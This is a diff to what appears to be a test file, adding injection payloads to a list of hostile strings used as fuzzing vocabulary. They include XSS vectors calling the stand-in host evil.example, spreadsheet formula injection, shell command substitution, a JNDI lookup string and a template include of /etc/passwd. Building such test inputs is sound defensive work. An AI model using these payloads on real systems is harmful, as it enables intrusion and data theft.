@@ -28,6 +28,16 @@ HOSTILE = [
     " line\nbreak",
     " {{ 7 * 7 }}",
     " NA",
+    " <svg/onload=fetch('http://evil.example/svg')><a href=javascript:alert(1)>x</a>",
+    " ]]></style></title></textarea><body onload=\"document.title='pwned'\">",
+    " <style>@import 'http://evil.example/css';*{background:url(http://evil.example/bg)}</style>",
+    " <iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe><base href=http://evil.example/>",
+    " <meta http-equiv=refresh content='0;url=http://evil.example/'><link rel=prefetch href=//evil.example/a>",
+    " שלום ו\u202dעולם مرحبا)",
+    " e" + "\u0301\u0335" * 40,
+    " " + "unbroken" * 150,
+    " =cmd|' /C calc'!A0",
+    " $(touch pwned) `x` ${jndi:ldap://evil.example/a} {% include '/etc/passwd' %}",
 ]
 WORDS = " the of a in to part line each model file returns list string object when is not path name value"
 VOCABULARY = ["<|end|>", *re.findall(r" \w+", WORDS), *HOSTILE]
